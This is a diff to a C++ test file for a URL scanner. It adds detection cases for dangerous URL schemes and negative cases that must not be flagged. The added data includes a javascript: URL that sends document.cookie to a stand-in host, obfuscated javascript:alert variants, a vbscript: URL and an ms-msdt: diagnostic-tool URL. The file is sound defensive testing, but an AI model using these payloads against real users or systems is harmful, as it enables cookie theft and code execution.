@@ -94,6 +94,11 @@ TEST_CASE("addresses that matter are found in every spelling") {
       {"https://bank.example@evil.example/", "url.userinfo"},
       {"gopher://example.org/_x", "url.scheme"},
       {"jar:http://example.org!/a", "url.scheme"},
+      {"javascript:fetch('https://x.example/'+document.cookie)", "url.scheme"},
+      {" \x01JavaScript:alert(1)", "url.scheme"},
+      {"java\tscr\nipt:alert(1)", "url.scheme"},
+      {"vbscript:msgbox(1)", "url.scheme"},
+      {"ms-msdt:/id PCWDiagnostic", "url.scheme"},
       {"2852039166", "url.metadata"},
       {"http://127.0.0.2/", "url.disguised"},
       {"http://0.0.0.0/", "url.disguised"},
@@ -142,6 +147,19 @@ TEST_CASE("addresses that matter are found in every spelling") {
     CAPTURE(c.text);
     CHECK(has(look(c.text).hits, c.id));
   }
+}
+
+TEST_CASE("what only begins like a scheme that runs something is none") {
+  for (const char* text : {"javascript", "javascript:", "https://example.org/javascript:x",
+                           "javascript-basics:1", "about:blank", "data:image/png;base64,AAAA",
+                           "mailto:ann@example.org", "/javascript:void"}) {
+    CAPTURE(text);
+    CHECK_FALSE(has(look(text).hits, "url.scheme"));
+  }
+  std::vector<Url> found;
+  std::vector<Hit> hits;
+  find_urls("javascript: the good parts", false, found, hits);
+  CHECK(hits.empty());
 }
 
 TEST_CASE("URLs that stand one a line are several") {
